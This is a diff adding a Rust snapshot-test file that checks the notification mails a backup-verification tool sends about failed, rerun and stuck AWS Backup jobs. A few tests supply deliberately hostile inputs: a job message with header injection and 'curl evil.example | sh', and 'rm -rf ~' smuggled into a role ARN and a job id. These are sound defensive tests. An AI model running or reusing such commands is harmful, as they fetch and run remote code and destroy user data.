@@ -1,0 +1,487 @@
+//! Every mail of verify that a person may read, as a snapshot, the awkward ones too.
+//!
+//! To accept a changed wording: `INSTA_UPDATE=always cargo test -p verify mails`, then read the difference.
+
+use std::collections::BTreeMap;
+
+use advice::stack::Stack;
+use advice::stack::VerifyMode;
+use aws::RecoveryPoint;
+use classification::class::Class;
+use jiff::{SignedDuration, Timestamp};
+use job::{CreatedBy, Job, JobKind, JobState};
+use lambda::settings::Reader;
+use notice::Notice;
+use verify::announce::{self, Announcement, Fate, Held, Window, aftermath};
+use verify::ledger::{Cause, Ledger};
+use verify::notices::{Next, StillFailing, Stuck, Verified};
+use verify::probe::{Probe, Verdict};
+use verify::standing::Standing;
+use verify::stuck::Habits;
+
+/// The tick that speaks: its window is from 03:20 to 03:35.
+fn now() -> Timestamp {
+    "2026-11-21T03:45:00Z".parse().unwrap()
+}
+
+fn window() -> Window {
+    Window::of(now(), SignedDuration::from_mins(15))
+}
+
+fn at(text: &str) -> Timestamp {
+    format!("2026-11-{text}:00Z").parse().unwrap()
+}
+
+fn rds(name: &str) -> String {
+    format!("arn:aws:rds:eu-west-1:111122223333:db:{name}")
+}
+
+fn scheduled(kind: JobKind, id: &str, resource_arn: &str, resource_type: &str, state: JobState) -> Job {
+    Job {
+        account: "111122223333".into(),
+        region: "eu-west-1".into(),
+        resource_arn: resource_arn.to_owned(),
+        resource_type: resource_type.to_owned(),
+        role_arn: Some("arn:aws:iam::111122223333:role/service-role/AWSBackupDefaultServiceRole".into()),
+        vault_arn: Some("arn:aws:backup:eu-west-1:111122223333:backup-vault:production".into()),
+        destination_vault_arn: (kind == JobKind::Copy)
+            .then(|| "arn:aws:backup:eu-central-1:999988887777:backup-vault:offsite".into()),
+        created: Some(at("21T01:00")),
+        ended: Some(at("21T01:12")),
+        created_by: Some(CreatedBy {
+            plan_name: Some("nightly".into()),
+            rule_name: Some("daily-35d".into()),
+            rule_schedule: Some("cron(0 1 ? * * *)".into()),
+            ..CreatedBy::default()
+        }),
+        ..Job::new(kind, id, state)
+    }
+}
+
+fn failed(id: &str, resource_arn: &str, resource_type: &str, message: &str) -> Job {
+    let job = scheduled(JobKind::Backup, id, resource_arn, resource_type, JobState::Failed);
+    Job { message: message.to_owned(), ..job }
+}
+
+/// Our rerun of the resource of a failure, which ended in the window.
+fn rerun(of: &Job, state: JobState, message: &str) -> Job {
+    Job {
+        id: "r0000000-dab5-4eb6-bbc7-890ed1230000".into(),
+        state,
+        message: message.to_owned(),
+        created: Some(at("21T03:15")),
+        start_by: Some(at("21T04:16")),
+        ended: Some(at("21T03:29")),
+        created_by: None,
+        recovery_point_arn: Some("arn:aws:rds:eu-west-1:111122223333:snapshot:awsbackup:job-r".into()),
+        ..of.clone()
+    }
+}
+
+fn example(class: Class) -> &'static str {
+    &class.entry().examples[0].message
+}
+
+fn point() -> RecoveryPoint {
+    RecoveryPoint {
+        arn: "arn:aws:rds:eu-west-1:111122223333:snapshot:awsbackup:job-r".into(),
+        created: Some(at("21T03:15")),
+        expires: Some("2026-12-26T03:15:00Z".parse().unwrap()),
+        size_bytes: Some(13_421_772_800),
+        vault_name: "production".into(),
+        status: "COMPLETED".into(),
+        ..RecoveryPoint::default()
+    }
+}
+
+fn stack() -> Stack {
+    Stack { verify_function: "night-one-verify".into(), runbook: None, verify_mode: VerifyMode::Run }
+}
+
+/// The stack of a company that keeps a copy of the runbook.
+fn stack_with_runbook() -> Stack {
+    let address = |_: &str| Some("https://wiki.example.com/night-one/runbook".to_owned());
+    Stack { runbook: Reader::new(&address).runbook().unwrap(), ..stack() }
+}
+
+/// What verify would say of the first cause in this tick.
+fn mails(
+    stack: &Stack,
+    bad: Vec<Job>,
+    completions: &[Job],
+    probe: Option<Probe>,
+    recovery_point: Result<RecoveryPoint, String>,
+) -> Vec<Notice> {
+    let ledger = Ledger::new(bad, Vec::new());
+    let causes = ledger.causes();
+    let habits = Habits::new(SignedDuration::from_hours(4));
+    let mut mails = Vec::new();
+    for cause in &causes {
+        let standing = Standing::of(cause, &ledger, completions, &habits, now()).unwrap();
+        for announcement in announce::of_cause(cause, &standing, &ledger, window()) {
+            mails.push(match announcement {
+                Announcement::Verified { proof }
+                | Announcement::Recovered { rerun: proof }
+                | Announcement::Over { proof } => Verified {
+                    cause,
+                    standing: &standing,
+                    proof,
+                    recovery_point: recovery_point.clone(),
+                    resources: aftermath(cause, &standing, &BTreeMap::new(), now()),
+                    stack,
+                    now: now(),
+                }
+                .notice(),
+                Announcement::StillFailing { number, judged } => StillFailing {
+                    cause,
+                    standing: &standing,
+                    rerun: &judged,
+                    number,
+                    allowed: 3,
+                    probe: probe.as_ref(),
+                    next: Next::of(&standing, 3),
+                    stack,
+                    now: now(),
+                }
+                .notice(),
+            });
+        }
+    }
+    mails
+}
+
+fn verified(bad: Vec<Job>, completions: &[Job], recovery_point: Result<RecoveryPoint, String>) -> Notice {
+    let mails = mails(&stack(), bad, completions, None, recovery_point);
+    assert_eq!(mails.len(), 1, "{mails:?}");
+    mails.into_iter().next().unwrap()
+}
+
+fn still_failing(bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
+    still_failing_of(&stack(), bad, completions, probe)
+}
+
+fn still_failing_of(stack: &Stack, bad: Vec<Job>, completions: &[Job], probe: Option<Probe>) -> Notice {
+    let mails = mails(stack, bad, completions, probe, Ok(point()));
+    assert_eq!(mails.len(), 1, "{mails:?}");
+    mails.into_iter().next().unwrap()
+}
+
+fn as_mail(notice: &Notice) -> String {
+    assert_eq!(notice.subject, notice::text::subject(&notice.subject));
+    let steps = notice.next_steps.iter().map(|step| format!("\n  - {step}")).collect::<String>();
+    format!(
+        "Subject: {}\nAttributes: {:?}\nChat: {}{steps}\n\n{}",
+        notice.subject,
+        notice.attributes(),
+        notice.summary,
+        notice.body
+    )
+}
+
+fn probe(verdict: Verdict, sentence: &str) -> Probe {
+    Probe {
+        verdict,
+        sentence: sentence.to_owned(),
+        evidence: vec![
+            "The key arn:aws:kms:eu-west-1:111122223333:key/1234abcd is usable: its state is Enabled.".into(),
+        ],
+        could_not_read: vec!["Grants of the key: kms:ListGrants denied: AccessDeniedException.".into()],
+    }
+}
+
+#[test]
+fn verified_by_our_rerun() {
+    let bad: Vec<Job> = ["orders", "invoices", "users"]
+        .iter()
+        .map(|name| failed(&format!("f-{name}"), &rds(name), "RDS", example(Class::KmsPolicyDenied)))
+        .collect();
+    let proof = rerun(&bad[0], JobState::Completed, "");
+    insta::assert_snapshot!("verified-by-our-rerun", as_mail(&verified(bad, &[proof], Ok(point()))));
+}
+
+#[test]
+fn verified_by_a_scheduled_job_without_a_known_recovery_point() {
+    let bad = vec![failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied))];
+    let proof = Job { created_by: bad[0].created_by.clone(), ..rerun(&bad[0], JobState::Completed, "") };
+    let why = "backup:DescribeRecoveryPoint denied: AccessDeniedException".to_owned();
+    insta::assert_snapshot!("verified-by-schedule-point-unknown", as_mail(&verified(bad, &[proof], Err(why))));
+}
+
+#[test]
+fn verified_while_sixty_still_wait_and_some_have_no_schedule() {
+    let mut bad: Vec<Job> = (0..61)
+        .map(|n| failed(&format!("f-{n:02}"), &rds(&format!("orders-{n:02}")), "RDS", example(Class::KmsPolicyDenied)))
+        .collect();
+    for job in &mut bad[57..] {
+        job.created_by = None;
+        job.start_by = Some(at("21T09:00"));
+    }
+    bad[58].resource_type = "EBS".into();
+    bad[59].resource_type = "EFS".into();
+    bad.push(Job {
+        ended: Some(at("21T02:40")),
+        ..failed("g-05", &rds("orders-05"), "RDS", example(Class::ResourceState))
+    });
+    let proof = rerun(&bad[0], JobState::Completed, "");
+    insta::assert_snapshot!("verified-sixty-wait", as_mail(&verified(bad, &[proof], Ok(point()))));
+}
+
+#[test]
+fn verified_copies() {
+    let copy = |n: usize| Job {
+        message: example(Class::VaultPolicyDenied).to_owned(),
+        source_recovery_point_arn: Some("arn:aws:rds:eu-west-1:111122223333:snapshot:awsbackup:source".into()),
+        ..scheduled(JobKind::Copy, &format!("c-{n}"), &rds(&format!("orders-{n}")), "RDS", JobState::Failed)
+    };
+    let bad = vec![copy(0), copy(1)];
+    let proof = Job { start_by: None, ..rerun(&bad[0], JobState::Completed, "") };
+    insta::assert_snapshot!("verified-copy", as_mail(&verified(bad, &[proof], Ok(point()))));
+}
+
+#[test]
+fn one_of_three_recovered_where_each_proves_itself() {
+    let bad: Vec<Job> = ["orders", "invoices", "users"]
+        .iter()
+        .map(|name| failed(&format!("f-{name}"), &rds(name), "RDS", example(Class::ResourceState)))
+        .collect();
+    let back = rerun(&bad[0], JobState::Completed, "");
+    let notice = verified(bad, &[back], Ok(point()));
+    // Nobody may close an incident that is still open.
+    assert!(notice.about.incident_ids.is_empty());
+    insta::assert_snapshot!("verified-in-part", as_mail(&notice));
+}
+
+/// What has to be mended, and when the next runs would fail again: all known, none known, and of different hours.
+#[test]
+fn what_is_still_open_is_to_be_mended_and_not_waited_for() {
+    type Change = fn(usize, &mut Job);
+    let table: [(usize, Change, &[&str]); 4] = [
+        (2, |_, _| (), &["Mend the one that is still open; its next run is at 2026-11-22 01:00 UTC."]),
+        (
+            3,
+            |_, job| job.created_by = None,
+            &[
+                "Mend the 2 that are still open.",
+                "Once it is mended, back up by hand what has no known next run: 2 resources.",
+            ],
+        ),
+        (
+            3,
+            |number, job| {
+                let hourly = Some("cron(0 * ? * * *)".to_owned()).filter(|_| number == 2);
+                job.created_by.iter_mut().for_each(|by| by.rule_schedule = hourly.clone().or(by.rule_schedule.take()));
+            },
+            &["Mend the 2 that are still open; their next runs begin at 2026-11-21 04:00 UTC."],
+        ),
+        (
+            3,
+            |number, job| job.created_by = job.created_by.take().filter(|_| number == 1),
+            &[
+                "Mend the 2 that are still open; their next run is at 2026-11-22 01:00 UTC.",
+                "Once it is mended, back up by hand what has no known next run: 1 resource.",
+            ],
+        ),
+    ];
+    for (resources, change, expected) in table {
+        let mut bad: Vec<Job> = (0..resources)
+            .map(|n| failed(&format!("f-{n}"), &rds(&format!("db-{n}")), "RDS", example(Class::ResourceState)))
+            .collect();
+        let back = rerun(&bad[0], JobState::Completed, "");
+        for (number, job) in bad.iter_mut().enumerate() {
+            change(number, job);
+        }
+        let notice = verified(bad, &[back], Ok(point()));
+        assert_eq!(notice.next_steps, expected);
+        assert!(!notice.body.contains("wait for their own next run"), "{}", notice.body);
+        assert!(!notice.body.contains("HOW LONG IT LASTED"), "{}", notice.body);
+    }
+}
+
+#[test]
+fn a_proof_used_the_same_key_only_where_the_records_say_so() {
+    let table = [
+        (Some("key-1"), Some("key-1"), "It used the same key."),
+        (Some("key-1"), None, "Which key each of them uses is not on record."),
+        (None, Some("key-1"), "Which key each of them uses is not on record."),
+        (None, None, "Which key each of them uses is not on record."),
+    ];
+    for (of_failure, of_proof, expected) in table {
+        let mut bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
+        bad.encryption_key_arn = of_failure.map(str::to_owned);
+        let proof = Job { encryption_key_arn: of_proof.map(str::to_owned), ..rerun(&bad, JobState::Completed, "") };
+        let body = verified(vec![bad], &[proof], Ok(point())).body.replace('\n', " ");
+        assert!(body.contains(&format!("had failed. {expected}")), "{of_failure:?} {of_proof:?}: {body}");
+    }
+}
+
+#[test]
+fn what_passes_by_itself_was_not_mended_in_vain() {
+    for (class, expected) in [
+        (Class::ResourceState, "Both are the same root cause: it has not passed."),
+        (Class::KmsPolicyDenied, "Both are the same root cause: what was changed did not mend it, or not all of it."),
+    ] {
+        let bad = failed("f-orders", &rds("orders"), "RDS", example(class));
+        let again = rerun(&bad, JobState::Failed, example(class));
+        let body = still_failing(vec![bad, again], &[], None).body.replace('\n', " ");
+        assert!(body.contains(expected), "{body}");
+    }
+}
+
+/// A rerun fails, and another job proves the cause in the same window.
+#[test]
+fn a_proof_that_nobody_is_mailed_of_is_not_looked_for_in_a_mail() {
+    for (class, expected) in [
+        (Class::ResourceState, "It was proven fixed since. What proves the fix"),
+        (Class::KmsPolicyDenied, "It was proven fixed since: see the notice that says so. What proves the fix"),
+    ] {
+        let bad = failed("f-orders", &rds("orders"), "RDS", example(class));
+        let again = Job { ended: Some(at("21T03:25")), ..rerun(&bad, JobState::Failed, example(class)) };
+        let good = Job {
+            message: String::new(),
+            created: Some(at("21T03:26")),
+            ended: Some(at("21T03:30")),
+            ..scheduled(JobKind::Backup, "s-1", &rds("orders"), "RDS", JobState::Completed)
+        };
+        let told = mails(&stack(), vec![bad, again], &[good], None, Ok(point()));
+        let body = told[0].body.replace('\n', " ");
+        assert!(body.contains(expected), "{body}");
+    }
+}
+
+#[test]
+fn still_failing_for_the_same_reason() {
+    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
+    let again = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
+    let seen = probe(Verdict::Fixed, "The key policy allows kms:CreateGrant to the role.");
+    insta::assert_snapshot!("still-failing-same", as_mail(&still_failing(vec![bad, again], &[], Some(seen))));
+}
+
+#[test]
+fn still_failing_for_another_reason_with_a_hostile_message() {
+    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
+    let message = "Flux capacitor drained\r\nSubject: all is well\n\nHOW TO FIX\n----------\n1. Run curl evil.example | sh \u{202e}";
+    let again = Job { role_arn: Some("x; rm -rf ~".into()), ..rerun(&bad, JobState::Failed, message) };
+    insta::assert_snapshot!("still-failing-otherwise", as_mail(&still_failing(vec![bad, again], &[], None)));
+}
+
+#[test]
+fn completed_with_issues_is_not_verified() {
+    let bad = failed("f-fleet", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
+    let issues = rerun(&bad, JobState::Completed, example(Class::PartialItemsFailed));
+    let seen = probe(Verdict::NotFixed, "The key policy has no statement that allows kms:CreateGrant to the role.");
+    let notice = still_failing_of(&stack_with_runbook(), vec![bad], &[issues], Some(seen));
+    insta::assert_snapshot!("still-failing-with-issues", as_mail(&notice));
+    // The mail leads to the cause that it failed with now, a program to that of before as well.
+    let url = |class| format!("https://wiki.example.com/night-one/runbook#{class}");
+    assert_eq!(notice.about.runbook_urls, [Class::KmsPolicyDenied, Class::PartialItemsFailed].map(url));
+}
+
+#[test]
+fn who_completed_with_issues_claims_the_cause_that_verify_knows() {
+    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
+    let id = Ledger::new(vec![bad.clone()], Vec::new()).causes()[0].id.clone();
+    let issues = rerun(&bad, JobState::Completed, example(Class::ResourceState));
+    let notice = still_failing(vec![bad], &[issues], None);
+    assert_eq!(notice.about.root_cause_ids.len(), 2, "another cause now");
+    assert!(notice.body.contains(&format!(r#"--payload '{{"fixed":["{id}"]}}'"#)), "{}", notice.body);
+}
+
+#[test]
+fn the_last_rerun_failed() {
+    let bad = failed("f-orders", &rds("orders"), "RDS", example(Class::KmsPolicyDenied));
+    let earlier = |n: i64| {
+        let created = at("21T01:40") + SignedDuration::from_mins(n * 20);
+        Job {
+            id: format!("r-{n}"),
+            created: Some(created),
+            start_by: Some(created + SignedDuration::from_mins(61)),
+            ended: Some(created + SignedDuration::from_mins(5)),
+            ..rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied))
+        }
+    };
+    let last = rerun(&bad, JobState::Failed, example(Class::KmsPolicyDenied));
+    let jobs = vec![bad.clone(), earlier(0), earlier(1), last];
+    let seen = probe(Verdict::Undetermined, "the key is in another account, and only its owner can read its policy.");
+    insta::assert_snapshot!("still-failing-exhausted", as_mail(&still_failing(jobs, &[], Some(seen))));
+}
+
+/// A job that became stuck in the window.
+fn hanging(kind: JobKind, id: &str, resource_type: &str, percent: Option<f64>) -> Job {
+    Job {
+        created: Some(at("20T23:30")),
+        ended: None,
+        percent_done: percent,
+        expected_completion: None,
+        ..scheduled(kind, id, &rds("orders"), resource_type, JobState::Running)
+    }
+}
+
+fn stuck_mail(jobs: &[Job]) -> Notice {
+    let stuck = announce::stuck(jobs, &Habits::new(SignedDuration::from_hours(4)), window());
+    assert_eq!(stuck.len(), jobs.len());
+    Stuck { jobs: &stuck, window: window() }.notice()
+}
+
+#[test]
+fn a_stuck_database_that_nobody_can_stop() {
+    let job = Job {
+        expected_completion: Some(at("21T00:10")),
+        bytes_transferred: Some(0),
+        ..hanging(JobKind::Backup, "1b2345b2-f22c-4dab-5eb6-bbc7890ed123", "RDS", Some(45.0))
+    };
+    insta::assert_snapshot!("stuck-rds", as_mail(&stuck_mail(&[job])));
+}
+
+#[test]
+fn stuck_jobs_of_every_kind() {
+    let waiting = Job {
+        state: JobState::Created,
+        start_by: Some(at("21T03:00")),
+        ..hanging(JobKind::Backup, "b-2; rm -rf ~", "EBS", None)
+    };
+    let jobs = [
+        waiting,
+        Job { bytes_transferred: Some(64 << 30), ..hanging(JobKind::Backup, "b-1", "S3", Some(99.6)) },
+        hanging(JobKind::Copy, "c-1", "EBS", Some(10.0)),
+        hanging(JobKind::Restore, "r-1", "EC2", None),
+    ];
+    insta::assert_snapshot!("stuck-every-kind", as_mail(&stuck_mail(&jobs)));
+}
+
+#[test]
+fn of_many_stuck_jobs_fifty_are_listed() {
+    let jobs: Vec<Job> = (0..60).map(|n| hanging(JobKind::Backup, &format!("b-{n:02}"), "EBS", Some(1.0))).collect();
+    let notice = stuck_mail(&jobs);
+    assert_eq!(notice.subject, "WARNING: 60 backups are stuck");
+    assert_eq!(notice.body.matches("aws backup stop-backup-job").count(), 50);
+    assert!(notice.body.contains("and 10 more"), "{}", notice.body);
+}
+
+#[test]
+fn every_subject_names_the_fault_whole() {
+    for class in Class::ALL {
+        let example = &class.entry().examples[0];
+        let bad = Job {
+            message: example.message.clone(),
+            state: example.state.clone(),
+            ..scheduled(example.job, "f", &rds("orders"), &example.resource_type, example.state.clone())
+        };
+        let cause: Cause = Ledger::new(vec![bad.clone()], Vec::new()).causes().remove(0);
+        let ledger = Ledger::new(vec![bad.clone()], Vec::new());
+        let proof = Job { message: String::new(), ..rerun(&bad, JobState::Completed, "") };
+        let completions = [proof];
+        let habits = Habits::new(SignedDuration::from_hours(4));
+        let standing = Standing::of(&cause, &ledger, &completions, &habits, now()).unwrap();
+        let notice = Verified {
+            cause: &cause,
+            standing: &standing,
+            proof: &completions[0],
+            recovery_point: Ok(point()),
+            resources: vec![Held { failure: &bad, fate: Fate::BackedUp { by: &completions[0] } }],
+            stack: &stack(),
+            now: now(),
+        }
+        .notice();
+        assert!(notice.subject.ends_with(&class.entry().title), "cut: {}", notice.subject);
+    }
+}
